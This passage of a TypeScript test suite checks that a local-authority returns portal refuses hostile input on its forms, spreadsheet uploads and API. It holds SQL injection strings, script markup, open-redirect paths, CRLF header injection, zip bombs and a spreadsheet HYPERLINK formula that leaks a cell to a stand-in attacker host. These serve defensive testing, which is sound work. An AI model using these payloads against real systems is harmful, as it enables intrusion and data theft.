    who: coordinator,
    body: () => ({ fields: { csrf: v.coordinator.csrf, code } }),
  });
  const catalogueDeleteCases = [ITEM, "care_experienced_parents", "", SQL[0]!, MEGABYTE, NUL, "no_such_item"].map(catalogueDelete);

  const invite = formCase("invite", "routes/admin.users.new", () => ({}), coordinator);
  const invitation = (over: Fields): Fields => ({
    email: "new.person@authorities.example",
    name: "New Person",
    role: "officer",
    authorityCode: CARDIFF,
    language: "en",
    ...over,
  });
  // Any address typed gets the same answer (a request counted, perhaps an email): only a form with
  // no address, or one that cannot be read, is refused. tests/routes/forgotten-password.test.ts
  // sends hostile addresses through and sees the same answer.
  const forgotCases: Case[] = ["", "   ", NUL].map((email) => ({
    name: `forgotten password: the email ${JSON.stringify(email)}`,
    route: "routes/forgot-password",
    params: () => ({}),
    who: () => null,
    body: () => ({ fields: { csrf: anon.token, email } }),
  }));

  // The reason is checked before the account is looked at: the analyst is active, and stays so,
  // whether the admin meant to deactivate the account or (refused anyway) to reactivate it.
  const reasonCases = (change: "reactivate" | "deactivate"): Case[] =>
    [
      ["no reason", ""],
      ["a reason of spaces", "   \t "],
      ["a reason of 1,001 characters", "r".repeat(1001)],
      ["a reason of 1 MB", MEGABYTE],
      ["a NUL byte in the reason", NUL],
    ].map(([name, reason]) => ({
      name: `${change}: ${name}`,
      route: `routes/admin.users.$userId.${change}`,
      params: () => ({ userId: String(v.analyst.userId) }),
      who: coordinator,
      body: () => ({ fields: { csrf: v.coordinator.csrf, reason: reason! } }),
    }));

  // Every kind of an officer's choices, one of them bad: nothing is saved, however the rest read.
  const notificationChoices = { query_raised: "digest", query_reply: "email", return_accepted: "email", round_opened: "digest" };
  const notificationCases: Case[] = ["", "weekly", "EMAIL", SCRIPT, SQL[0]!, MEGABYTE, NUL].map((delivery) => ({
    name: `notification settings: the choice ${JSON.stringify(delivery.slice(0, 30))}`,
    route: "routes/account.notifications",
    params: () => ({}),
    who: newportOfficer,
    body: () => ({ fields: { csrf: v.newport.csrf, ...notificationChoices, return_accepted: delivery } }),
  }));

  const inviteCases: Case[] = [
    ...["not-an-address", "a@b", "", `${"e".repeat(250)}@x.example`, MEGABYTE, SQL[0]!, COORDINATOR, OFFICER.cardiff.toUpperCase()].map(
      (email) => invite(`the email ${JSON.stringify(email.slice(0, 30))}`, () => invitation({ email })),
    ),
    ...["admin", "superuser", "", "officer' OR '1'='1", SCRIPT].map((role) =>
      invite(`the role ${JSON.stringify(role)}`, () => invitation({ role })),
    ),
    invite("an officer with no authority", () => invitation({ authorityCode: "" })),
    ...[`${CARDIFF}' --`, "W06999999", "w06000015", MEGABYTE].map((a) =>
      invite(`the authority ${JSON.stringify(a.slice(0, 20))}`, () => invitation({ authorityCode: a })),
    ),
    ...["fr", "", "EN", SCRIPT].map((language) => invite(`the language ${JSON.stringify(language)}`, () => invitation({ language }))),
    invite("a name of 201 characters", () => invitation({ name: "n".repeat(201) })),
    invite("a name of 1 MB", () => invitation({ name: MEGABYTE })),
    ...HOSTILE_MARKUP.map((s) => invite(`markup in the name, with a bad email: ${s}`, () => invitation({ email: "bad", name: s }), s)),
    invite("a NUL byte in the name", () => invitation({ name: NUL })),
    invite("a NUL byte in the email", () => invitation({ email: `new${NUL}@authorities.example` })),
  ];

  // Markup in every field of every form, one field at a time, each with something else wrong (the
  // form's "poison") so that it is refused whatever the field makes of the markup.
  const everyField: Case[] = [
    ...[
      "cannot",
      "state",
      "number",
      "reason",
      "ageFrom",
      "ageTo",
      "refDay",
      "refMonth",
      "refYear",
      "countingNote",
      "caveat",
      "queryExplanation",
    ].map((f) =>
      save(`markup in ${ITEM}.${f}`, () => ({
        ...poisoned({ [ITEM]: f === "reason" ? { cannot: "yes", state: "unknown" } : { state: "reported", number: "5" } }),
        [`${ITEM}.${f}`]: SCRIPT,
      })),
    ),
    save("markup as the lock version", () => ({ ...withValue({ state: "reported", number: "5" }), lockVersion: SCRIPT })),
    ...["signedOffName", "signedOffRole", "lockVersion"].map((f) =>
      submit(`markup in ${f}, from a stale page`, () => stale({ [f]: SCRIPT })),
    ),
    ...["reason", "lockVersion"].map((f) =>
      amend(`markup in ${f}, from a stale page`, () => reason({ lockVersion: String(lock.newport - 1), [f]: SCRIPT })),
    ),
    ...["email", "password", "returnTo"].map((f) =>
      loginCase(`markup in ${f}, with a wrong password`, () => ({
        email: `markup.${f}@x.example`,
        password: "wrong-password",
        [f]: f === "returnTo" ? `/${SCRIPT}` : SCRIPT,
      })),
    ),
    ...["itemCode", "message"].map((f) =>
      onQuery(`markup in ${f}, raised on an unknown item`, "raise", coordinator, () => ({
        itemCode: "nope",
        message: "Why?",
        [f]: SCRIPT,
      })),
    ),
    onQuery(
      "markup as the query id of a reply",
      "thread",
      newportOfficer,
      () => ({ intent: "reply", message: "Here." }),
      onThread(() => SCRIPT),
    ),
    ...[
      ...COLLECTION_TEXT_FIELDS,
      "reference_date-day",
      "opens_on-month",
      "due_on-year",
      "rule.0.kind",
      "rule.0.item",
      "rule.0.parts",
      "rule.0.limit",
      "changePercent",
      "changeAbsolute",
      "outlierScore",
      "outlierMinPeers",
      "smallCountMax",
      `position.${ITEM}`,
    ].map((f) => design(`markup in ${f}, with a bad due date`, () => collectionForm({ ...badDate, [f]: SCRIPT }))),
    ...[...COLLECTION_TEXT_FIELDS, "reference_date-day", "opens_on-year", "rule.0.item", "changePercent", "outlierScore"].map((f) =>
      newCollection(`markup in ${f}, with a bad due date`, () => collectionForm({ code: "hardening-new", ...badDate, [f]: SCRIPT })),
    ),
    ...DATA_ITEM_FIELDS.map((f) => catalogueNew(`markup in ${f}, with a bad code`, () => itemForm({ code: "Bad Code", [f]: SCRIPT }))),
    catalogueDelete(SCRIPT),
    ...["email", "name", "role", "authorityCode", "language"].map((f) =>
      invite(`markup in ${f}, with a bad email`, () => invitation({ email: "bad", [f]: SCRIPT })),
    ),
  ];

  const families: [string, Case[]][] = [
    ["markup in every field of every form", everyField],
    ["the return form's save", saveCases],
    ["CSRF tokens", csrfCases],
    ["bodies that are not forms", bodyCases],
    ["checking and submitting", submitCases],
    ["amending", amendCases],
    ["signing in", loginCases],
    ["queries and acceptance", queryCases],
    ["the collection design form", designCases],
    ["a new collection", newCollectionCases],
    ["a new catalogue item", catalogueCases],
    ["deleting a catalogue item", catalogueDeleteCases],
    ["inviting an account", inviteCases],
    ["asking for a forgotten password's link", forgotCases],
    ["reactivating an account", reasonCases("reactivate")],
    ["deactivating an account", reasonCases("deactivate")],
    ["choosing how notifications come", notificationCases],
  ];
  for (const [family, cases] of families) {
    describe(family, () => {
      it.each(cases.map((c) => [c.name, c] as const))("%s", async (_, c) => expectRefused(c));
    });
  }

  // ---------------------------------------------------------------- hostile addresses

  describe("hostile addresses: a 404 or a safe redirect, never a server error", () => {
    const addresses: [string, (status: number, location: string | null) => boolean][] = [
      ...[
        "/collections/%00",
        `/collections/${"c".repeat(100_000)}`,
        "/collections/'%20OR%20'1'%3D'1",
        "/collections/%00/board",
        "/collections/%00/design",
        `/collections/${OPEN_ROUND}/items/%00`,
        `/collections/${OPEN_ROUND}/chase-list.csv%00`,
        "/items/%00",
        `/items/${"i".repeat(100_000)}`,
        `/returns/%00/${CARDIFF}`,
        `/returns/${OPEN_ROUND}/%00`,
        `/returns/${OPEN_ROUND}/W06000015'--`,
        `/returns/${OPEN_ROUND}/${CARDIFF}%00/history`,
        `/collections/${OPEN_ROUND}/import/1e99`,
        `/collections/${OPEN_ROUND}/import/99999999999`,
        `/collections/${OPEN_ROUND}/import/%00`,
        "/admin/users/1e99/deactivate",
        "/admin/users/99999999999/deactivate",
        "/admin/users/%00/deactivate",
        "/admin/users/1e99",
        "/admin/users/99999999999",
        "/admin/users/%00",
        "/admin/users/-1/reactivate",
        "/admin/users/99999999999/reactivate",
        "/admin/users/%00/reactivate",
        "/set-password/%00",
        `/set-password/${"t".repeat(100_000)}`,
      ].map((path) => [path, (status: number) => status === 404] as [string, (s: number, l: string | null) => boolean]),
      ...[
        "/language?lang=cy&returnTo=%2F%09%2Fevil.example",
        "/language?lang=cy&returnTo=%2F%0A%2Fevil.example",
        "/language?lang=cy&returnTo=%2F%5C%2Fevil.example",
        "/language?lang=cy&returnTo=%2F%0D%0ASet-Cookie%3A%20x%3D1",
        "/language?lang=cy&returnTo=%2F%00",
        "/language?lang=%00&returnTo=%2F",
        "/login?returnTo=%2F%0A%2Fevil.example",
        "/login?returnTo=%2F%09%2Fevil.example",
      ].map(
        (path) =>
          [
            path,
            (status: number, location: string | null) => status < 400 && (location === null || /^\/(?![/\\])[^\s\\]*$/.test(location)),
          ] as [string, (s: number, l: string | null) => boolean],
      ),
    ];
    it.each(addresses)("%s", async (path, acceptable) => {
      for (const visitor of [v.coordinator, null]) {
        const response = await portal.page(new Request(`http://localhost${path}`, { headers: visitor ? { Cookie: visitor.cookie } : {} }));
        const location = response.headers.get("Location");
        // Anyone not signed in is sent to sign in first; the address is checked once they are.
        if (!visitor && location?.startsWith("/login?returnTo=")) continue;
        expect(response.status, `${path}: not a server error`).toBeLessThan(500);
        expect(
          acceptable(response.status, location),
          `${path} as ${visitor ? "the coordinator" : "anyone"}: ${response.status} ${location}`,
        ).toBe(true);
      }
    });
    it("keeps sign-in's returnTo on this site, whatever it is given", async () => {
      for (const returnTo of ["/\t/evil.example", "/\n/evil.example", "/\\evil.example", "//evil.example", "https://evil.example"]) {
        const login = portal.build.routes["routes/login"]!.module as { action: RouteFn };
        const signInAs = await visitorFor(db(), v.coordinator.userId);
        const request = new Request("http://localhost/login", {
          method: "POST",
          body: new URLSearchParams({ csrf: anon.token, email: COORDINATOR, password: "demo-password-2023", returnTo }),
          headers: { Cookie: `${anon.cookie}; ${signInAs.cookie}`, "Content-Type": "application/x-www-form-urlencoded" },
        });
        const outcome = await run(() => login.action({ request, params: {}, context: { clientAddress: "198.19.0.1" } }));
        expect(outcome.status, JSON.stringify(returnTo)).toBe(302);
        // The coordinator has a second factor: the password leads to the code step, carrying the safe path.
        expect(outcome.kind === "response" && outcome.location, JSON.stringify(returnTo)).toBe("/login/code?returnTo=%2F");
      }
    });
  });

  // ---------------------------------------------------------------- spreadsheets

  describe("hostile spreadsheets: the upload refuses each, whole, and changes nothing", () => {
    const workbookOf = async (bytes: Buffer) => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
      return workbook;
    };
    const returnSheet = (workbook: ExcelJS.Workbook) => workbook.worksheets.find((s) => s.name === "Return")!;
    const written = async (workbook: ExcelJS.Workbook) => Buffer.from(await workbook.xlsx.writeBuffer());
    /** The Cardiff template with a change made to it in exceljs. */
    const edited = async (change: (workbook: ExcelJS.Workbook) => void) => {
      const workbook = await workbookOf(templates.cardiff);
      change(workbook);
      return written(workbook);
    };
    /** The Cardiff template with its zip rewritten by JSZip. */
    const rezipped = async (change: (zip: JSZip) => void | Promise<void>, level = 6) => {
      const zip = await JSZip.loadAsync(templates.cardiff);
      await change(zip);
      return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level } });
    };
    // Row 4 is the first item (care_leavers_21_25); columns D (answer) and E (number).
    const FIRST = 4;
    const multipart = (
      bytes: Uint8Array | null,
      { csrf, name = "returns.xlsx", field = "workbook" }: { csrf?: string; name?: string; field?: string } = {},
    ) => {
      const form = new FormData();
      form.append("csrf", csrf ?? v.cardiff.csrf);
      if (bytes)
        form.append(
          field,
          new Blob([bytes as BlobPart], { type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" }),
          name,
        );
      return form;
    };
    const upload = (name: string, body: () => Promise<Body> | Body, echoes?: string): Case => ({
      name: `upload: ${name}`,
      route: "routes/returns.$collectionCode.$authorityCode.upload",
      params: openCardiff,
      who: () => v.cardiff,
      body,
      echoes,
    });
    const file = (name: string, bytes: () => Promise<Uint8Array> | Uint8Array, echoes?: string) =>
      upload(name, async () => ({ raw: multipart(await bytes()), contentType: null }), echoes);

    const cases: Case[] = [
      file("a text file named .xlsx", () => new TextEncoder().encode("care_leavers_21_25,120\n")),
      file("a PNG", () => Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex")),
      file("a PDF", () => new TextEncoder().encode("%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF")),
      file("an old .xls (OLE2) header", () => Buffer.from("d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900", "hex")),
      upload("an empty file", () => ({ raw: multipart(new Uint8Array(0)), contentType: null })),
      upload("no file at all", () => ({ raw: multipart(null), contentType: null })),
      file("the template cut in half", () => templates.cardiff.subarray(0, Math.floor(templates.cardiff.length / 2))),
      file("the template without its last 100 bytes", () => templates.cardiff.subarray(0, templates.cardiff.length - 100)),
      file("the template with bytes overwritten in the middle", () => {
        const copy = Buffer.from(templates.cardiff);
        copy.fill(0x41, Math.floor(copy.length / 3), Math.floor(copy.length / 3) + 512);
        return copy;
      }),
      file("Newport's template, uploaded to Cardiff's return", () => templates.newport),
      file("Cardiff's template of another collection", () => templates.closed),
      file("a template from before the last save", () =>
        edited((wb) => {
          wb.getWorksheet("portal")!.eachRow((row) => {
            if (row.getCell(1).value === "lockVersion") row.getCell(2).value = lock.cardiff - 1;
          });
        }),
      ),
      file("a template whose stamp's lock version is text", () =>
        edited((wb) => {
          wb.getWorksheet("portal")!.eachRow((row) => {
            if (row.getCell(1).value === "lockVersion") row.getCell(2).value = "abc";
          });
        }),
      ),
      file("a template without its stamp", () => edited((wb) => wb.removeWorksheet(wb.getWorksheet("portal")!.id))),
      file("a new workbook that is not a template", async () => {
        const wb = new ExcelJS.Workbook();
        wb.addWorksheet("Return").getCell("D4").value = 120;
        return written(wb);
      }),
      file("a template with its Return sheet renamed", () => edited((wb) => (returnSheet(wb).name = "Answers"))),
      file("a formula in the number cell", () =>
        edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { formula: "SUM(1,2)", result: 3 } as ExcelJS.CellFormulaValue)),
      ),
      file("a formula in the answer cell", () =>
        edited(
          (wb) => (returnSheet(wb).getCell(FIRST, 4).value = { formula: '"Re"&"ported"', result: "Reported" } as ExcelJS.CellFormulaValue),
        ),
      ),
      file("an error value in a cell", () =>
        edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue)),
      ),
      file("merged answer cells", () => edited((wb) => returnSheet(wb).mergeCells(FIRST, 4, FIRST, 5))),
      file("rows sorted into another order", () =>
        edited((wb) => {
          const sheet = returnSheet(wb);
          const [a, b] = [sheet.getCell(FIRST, 1).value, sheet.getCell(FIRST + 1, 1).value];
          sheet.getCell(FIRST, 1).value = b;
          sheet.getCell(FIRST + 1, 1).value = a;
        }),
      ),
      file("100,000 rows", () =>
        edited((wb) => {
          const sheet = returnSheet(wb);
          for (let row = 20; row < 100_020; row++) sheet.getCell(row, 5).value = row;
        }),
      ),
      file("a number of 1e99", () => edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = 1e99))),
      file("a date where a number goes", () => edited((wb) => (returnSheet(wb).getCell(FIRST, 5).value = new Date("2026-01-01")))),
      // XML cannot carry these characters, so what arrives is whatever exceljs makes of them; with a
      // number that is not one beside them, the upload must be refused whatever that is, and not fail.
      file("a NUL byte and control characters in a reason, with a number that is not one", () =>
        edited((wb) => {
          const sheet = returnSheet(wb);
          sheet.getCell(FIRST, 4).value = "Unknown";
          sheet.getCell(FIRST, 6).value = `${NUL}${CONTROL}`;
          sheet.getCell(FIRST + 1, 5).value = "several";
        }),
      ),
      file("markup in a caveat, with a number that is not one", () =>
        edited((wb) => {
          const sheet = returnSheet(wb);
          sheet.getCell(FIRST, 4).value = "Reported";
          sheet.getCell(FIRST, 5).value = "lots";
          sheet.getCell(FIRST, 11).value = SCRIPT;
        }),
      ),
      file("a zip bomb: 50 MB of zeros in one entry", () =>
        rezipped((zip) => void zip.file("xl/media/padding.bin", new Uint8Array(50 * 1024 * 1024)), 9),
      ),
      file("a zip bomb that lies about its size", async () => {
        const bytes = await rezipped((zip) => void zip.file("xl/media/padding.bin", new Uint8Array(30 * 1024 * 1024)), 9);
        return lieAboutSizes(bytes, "xl/media/padding.bin", 1024);
      }),
      file("a huge shared-strings table", () =>
        rezipped((zip) => {
          const strings = Array.from({ length: 1_000_000 }, (_, i) => `<si><t>s${i}</t></si>`).join("");
          zip.file(
            "xl/sharedStrings.xml",
            `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1000000" uniqueCount="1000000">${strings}</sst>`,
          );
        }, 9),
      ),
      file("a large shared-strings table in another authority's template", async () => {
        const zip = await JSZip.loadAsync(templates.newport);
        const strings = Array.from({ length: 150_000 }, (_, i) => `<si><t>s${i}</t></si>`).join("");
        zip.file(
          "xl/sharedStrings.xml",
          `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${strings}</sst>`,
        );
        return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
      }),
      file("a zip of 500 entries", () =>
        rezipped((zip) => {
          for (let i = 0; i < 500; i++) zip.file(`xl/extra/${i}.xml`, "<x/>");
        }),
      ),
      file("a zip that is not a workbook (no xl/workbook.xml)", async () => {
        const zip = new JSZip();
        zip.file("[Content_Types].xml", "<Types/>");
        zip.file("word/document.xml", "<w:document/>");
        return zip.generateAsync({ type: "nodebuffer" });
      }),
      file("a file of 3 MB", () => new Uint8Array(3 * 1024 * 1024).fill(0x50)),
      upload("the form posted as urlencoded, not multipart", () => ({ fields: { csrf: v.cardiff.csrf, workbook: "bytes" } })),
      upload("a wrong CSRF token with a good template", () => ({
        raw: multipart(templates.cardiff, { csrf: "forged" }),
        contentType: null,
      })),
      upload("no CSRF token with a good template", () => {
        const form = new FormData();
        form.append("workbook", new Blob([templates.cardiff as BlobPart]), "returns.xlsx");
        return { raw: form, contentType: null };
      }),
      upload("the file in the wrong field", () => ({ raw: multipart(templates.cardiff, { field: "file" }), contentType: null })),
      upload("garbage as multipart", () => ({ raw: new Uint8Array(8192).fill(0x2d), contentType: "multipart/form-data; boundary=----x" })),
      upload("a multipart body that ends early", () => ({
        raw: `------x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n${v.cardiff.csrf}\r\n------x\r\nContent-Disposition: form-data; name="workbook"; filename="a.xlsx"\r\n\r\nPK`,
        contentType: "multipart/form-data; boundary=----x",
      })),
    ];
    it.each(cases.map((c) => [c.name, c] as const))("%s", async (_, c) => expectRefused(c), 120_000);

    const importCase = (name: string, bytes: () => Promise<Uint8Array> | Uint8Array): Case => ({
      name: `import: ${name}`,
      route: "routes/collections.$code.import._index",
      params: () => ({ code: OPEN_ROUND }),
      who: coordinator,
      body: async () => ({ raw: multipart(await bytes(), { csrf: v.coordinator.csrf }), contentType: null }),
    });
    const importCases: Case[] = [
      importCase("a text file", () => new TextEncoder().encode("hello")),
      importCase("an authority's return template", () => templates.cardiff),
      importCase("the template cut in half", () => templates.cardiff.subarray(0, Math.floor(templates.cardiff.length / 2))),
      importCase("a zip bomb", async () => {
        const zip = await JSZip.loadAsync(templates.cardiff);
        zip.file("xl/media/padding.bin", new Uint8Array(50 * 1024 * 1024));
        return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } });
      }),
      importCase("a sheet of 100,000 rows", async () => {
        const wb = new ExcelJS.Workbook();
        const sheet = wb.addWorksheet("Data");
        sheet.addRow(["authority_code", "item_code", "state", "value"]);
        for (let i = 0; i < 100_000; i++) sheet.addRow([CARDIFF, ITEM, "reported", i]);
        return Buffer.from(await wb.xlsx.writeBuffer());
      }),
      importCase("markup and SQL in every cell", async () => {
        const wb = new ExcelJS.Workbook();
        const sheet = wb.addWorksheet("Data");
        for (let r = 0; r < 10; r++) sheet.addRow([SCRIPT, SQL[0], IMG, NUL, { formula: 'HYPERLINK("http://evil.example")' }]);
        return Buffer.from(await wb.xlsx.writeBuffer());
      }),
    ];
    it.each(importCases.map((c) => [c.name, c] as const))("%s", async (_, c) => expectRefused(c), 120_000);
  });

  describe("answers that hold markup or formulas, once saved and submitted", () => {
    const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`;
    beforeAll(async () => {
      const explained = (number: string, extra: Record<string, string> = {}) => ({
        state: "reported",
        number,
        queryExplanation: "Checked.",
        ...extra,
      });
      const fields = formAnswers(
        {
          [ITEM]: explained("120", { caveat: SCRIPT }),
          care_experienced_parents: explained("10", { caveat: FORMULA }),
          care_experienced_mothers: explained("7", { queryExplanation: `</textarea>${SCRIPT}` }),
          care_experienced_fathers: explained("3", { countingNote: IMG }),
          care_experienced_parents_child_removed: explained("2"),
          children_reunification_plan: { state: "not_collected", cannot: "yes", reason: `<svg/onload=alert(3)> ${IMG}` },
        },
        lock.cardiff,
      );
      const saveRoute = portal.build.routes[returnIndex]!.module as { action: RouteFn };
      const saved = await run(() =>
        saveRoute.action({
          request: new Request(`http://localhost/returns/${OPEN_ROUND}/${CARDIFF}`, {
            method: "POST",
            body: new URLSearchParams({ csrf: v.cardiff.csrf, ...fields }),
            headers: { Cookie: v.cardiff.cookie, "Content-Type": "application/x-www-form-urlencoded" },
          }),
          params: openCardiff(),
          context: {},
        }),
      );
      expect(saved.status, JSON.stringify(saved.kind === "data" ? saved.data : saved.location)).toBe(302);
      const checkRoute = portal.build.routes["routes/returns.$collectionCode.$authorityCode.check"]!.module as { action: RouteFn };
      const submitted = await run(() =>
        checkRoute.action({
          request: new Request(`http://localhost/returns/${OPEN_ROUND}/${CARDIFF}/check`, {
            method: "POST",
            body: new URLSearchParams({
              csrf: v.cardiff.csrf,
              lockVersion: String(lock.cardiff + 1),
              signedOffName: SCRIPT,
              signedOffRole: IMG,
            }),
            headers: { Cookie: v.cardiff.cookie, "Content-Type": "application/x-www-form-urlencoded" },
          }),
          params: openCardiff(),
          context: {},
        }),
      );
      expect(submitted.status, JSON.stringify(submitted.kind === "data" ? submitted.data : submitted.location)).toBe(302);
    });

    it("shows markup saved as text, as text, on every page that shows it", async () => {
      const pages: [Visitor, string][] = [
        [v.cardiff, `/returns/${OPEN_ROUND}/${CARDIFF}`],
        [v.cardiff, `/returns/${OPEN_ROUND}/${CARDIFF}/history`],
        [v.cardiff, `/returns/${OPEN_ROUND}/${CARDIFF}/submitted`],
        [v.coordinator, `/returns/${OPEN_ROUND}/${CARDIFF}`],
        [v.coordinator, `/returns/${OPEN_ROUND}/${CARDIFF}/history`],
        [v.coordinator, `/collections/${OPEN_ROUND}`],
        [v.coordinator, `/collections/${OPEN_ROUND}/items/${ITEM}`],
        [v.coordinator, `/collections/${OPEN_ROUND}/items/care_experienced_fathers`],
        [v.coordinator, `/collections/${OPEN_ROUND}/gaps`],
        [v.analyst, `/collections/${OPEN_ROUND}/gaps`],
        [v.coordinator, `/collections/${OPEN_ROUND}/board`],
      ];
      let shown = 0;
      for (const [visitor, path] of pages) {
        const response = await portal.page(new Request(`http://localhost${path}`, { headers: { Cookie: visitor.cookie } }));
        const html = await response.text();
        expect(response.status, path).toBe(200);
        for (const raw of RAW_MARKUP) expect(html.includes(raw), `${path}: ${raw} came back raw`).toBe(false);
        if (html.includes(escapeHtml(SCRIPT)) || html.includes(escapeHtml(IMG))) shown++;
      }
      // The markup was shown (escaped) on the return, its history and the gaps: the check above had something to find.
      expect(shown).toBeGreaterThanOrEqual(4);
    });

    it("writes a formula typed as an answer into the CSV as text a spreadsheet will not run", async () => {
      const route = portal.build.routes["routes/collections.$code.values[.]csv"]!.module as { loader: RouteFn };
      const response = (await route.loader({
        request: new Request(`http://localhost/collections/${OPEN_ROUND}/values.csv`, { headers: { Cookie: v.coordinator.cookie } }),
        params: { code: OPEN_ROUND },
        context: {},
      })) as Response;
      const { parse } = await import("csv-parse/sync");
      const cells = (parse((await response.text()).replace(/^\uFEFF/, "")) as string[][]).flat();
      expect(
        cells.some((cell) => cell.includes("HYPERLINK")),
        "the formula's text is in the export",
      ).toBe(true);
      // OWASP's CSV injection advice: a cell that starts with = + - @ (or a tab or carriage return) is a formula to Excel.
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });
  });

  // ---------------------------------------------------------------- the machine API

  describe("the machine API: hostile bodies, lock versions and addresses get problem details, never a 5xx, and change nothing", () => {
    const draft = `/api/v1/returns/${OPEN_ROUND}/${CARDIFF}/draft`;
    const validate = `/api/v1/returns/${OPEN_ROUND}/${CARDIFF}/validate`;
    /** A whole valid return as the API takes it, with one item replaced, and (to be sure it is refused) a number that is not one. */
    const values = (item: Record<string, unknown>, poison = true) => ({
      care_leavers_21_25: { state: "reported", number: 120 },
      care_experienced_parents: { state: "reported", number: 10 },
      care_experienced_mothers: { state: "reported", number: 7 },
      care_experienced_fathers: { state: "reported", number: poison ? "three" : 3 },
      care_experienced_parents_recent: { state: "unknown", reason: "Our records do not say when care ended." },
      care_experienced_parents_child_removed: { state: "reported", number: 2 },
      children_reunification_plan: { state: "not_collected", reason: "We do not record this." },
      ...item,
    });
    const json = (body: unknown) => JSON.stringify(body);
    const bodies: [string, string][] = [
      ["a caveat of 1 MB", json({ values: values({ [ITEM]: { state: "reported", number: 5, caveat: MEGABYTE } }) })],
      ["a NUL byte in a reason", json({ values: values({ [ITEM]: { state: "unknown", reason: NUL } }) })],
      ["control characters in a caveat", json({ values: values({ [ITEM]: { state: "reported", number: 5, caveat: CONTROL } }) })],
      ["odd Unicode in a note", json({ values: values({ [ITEM]: { state: "reported", number: 5, countingNote: ODD_UNICODE } }) })],
      ...SQL.map((q): [string, string] => [`SQL in a reason: ${q}`, json({ values: values({ [ITEM]: { state: "unknown", reason: q } }) })]),
      ...HOSTILE_MARKUP.map((m): [string, string] => [
        `markup in a caveat: ${m}`,
        json({ values: values({ [ITEM]: { caveat: m, state: m } }) }),
      ]),
      ["a number too big for JSON", `{"values":{"${ITEM}":{"state":"reported","number":1e400}}}`],
      ["a number as an object", json({ values: { [ITEM]: { state: "reported", number: { $gt: 0 } } } })],
      ["a number as an array", json({ values: { [ITEM]: { state: "reported", number: [1, 2] } } })],
      ["a state as a number", json({ values: { [ITEM]: { state: 1 } } })],
      ["an item called __proto__", `{"values":{"__proto__":{"state":"reported","number":1}}}`],
      ["an item called constructor", json({ values: { constructor: { state: "reported", number: 1 } } })],
      ["values as an array", json({ values: [{ state: "reported" }] })],
      ["values as null", json({ values: null })],
      ["no values", json({})],
      ["a bare string", json("values")],
      ["JSON nested 10,000 deep", `${"[".repeat(10_000)}${"]".repeat(10_000)}`],
      ["not JSON at all", "state=reported&number=5"],
      ["an empty body", ""],
    ];
    const locks = ABSURD_LOCK_VERSIONS.map((lv): [string, string] => [`the lock version ${JSON.stringify(lv)}`, lv]);

    async function expectProblem(request: Request, name: string) {
      const before = await snapshot(db());
      const response = await portal.page(request);
      expect(response.status, `${name}: a refusal, not a server error`).toBeGreaterThanOrEqual(400);
      expect(response.status, `${name}: a refusal, not a server error`).toBeLessThan(500);
      expect(response.headers.get("Content-Type"), name).toContain("application/problem+json");
      const body = (await response.json()) as { title?: string; detail?: string };
      expect(body.title && body.detail, `${name}: the problem says why`).toBeTruthy();
      expect(changedParts(before, await snapshot(db())), `${name}: the database is as it was`).toEqual([]);
      tried += 1;
    }
    const headers = (extra: Record<string, string>) => ({ Authorization: `Bearer ${v.cardiff.apiToken}`, ...extra });

    it.each(bodies)("PUT %s", async (name, body) => {
      const request = new Request(`http://localhost${draft}`, {
        method: "PUT",
        body,
        headers: headers({ "Content-Type": "application/json", "If-Match": String(lock.cardiff) }),
      });
      await expectProblem(request, name);
    });
    it.each(bodies.filter(([name]) => !name.startsWith("markup") && !name.startsWith("SQL")))("validate %s", async (name, body) => {
      // The dry run reports refused values in a 200 report; a body it cannot read at all is a problem.
      const request = new Request(`http://localhost${validate}`, {
        method: "POST",
        body,
        headers: headers({ "Content-Type": "application/json" }),
      });
      const before = await snapshot(db());
      const response = await portal.page(request);
      expect(response.status, name).toBeLessThan(500);
      expect([200, 400, 413, 415]).toContain(response.status);
      expect(changedParts(before, await snapshot(db())), `${name}: the database is as it was`).toEqual([]);
      tried += 1;
    });
    it.each(locks)("PUT with %s", async (name, lv) => {
      const request = new Request(`http://localhost${draft}`, {
        method: "PUT",
        body: json({ values: values({}, false) }),
        headers: headers({ "Content-Type": "application/json", "If-Match": lv }),
      });
      await expectProblem(request, name);
    });
    it.each([
      "/api/v1/collections/%00",
      `/api/v1/collections/${"c".repeat(100_000)}`,
      "/api/v1/collections/'%20OR%20'1'%3D'1/figures",
      `/api/v1/returns/%00/${CARDIFF}/draft`,
      `/api/v1/returns/${OPEN_ROUND}/%00/draft`,
      `/api/v1/returns/${OPEN_ROUND}/W06000015'--/draft`,
      `/api/v1/returns/${DRAFT_ROUND}/${CARDIFF}/draft`,
    ])("GET %s", async (path) => {
      await expectProblem(new Request(`http://localhost${path}`, { headers: headers({}) }), path);
    });
    it.each([
      ["no Authorization", {}],
      ["a Basic password", { Authorization: "Basic YWRtaW46YWRtaW4=" }],
      ["a bearer of 100,000 characters", { Authorization: `Bearer wdr_${"a".repeat(100_000)}` }],
      ["a bearer with SQL", { Authorization: `Bearer wdr_' OR '1'='1` }],
      ["two bearers", { Authorization: "Bearer wdr_a Bearer wdr_b" }],
    ] as [string, Record<string, string>][])("%s", async (name, auth) => {
      await expectProblem(new Request(`http://localhost${draft}`, { headers: auth }), name);
    });
  });

  it("leaves every value with its audit row after all of that", async () => {
    await expectEveryValueAudited(db());
  });
});

/** Which tables differ between two snapshots (fingerprints): each with its row count and hash before and after. */
function changedParts(before: string, after: string) {
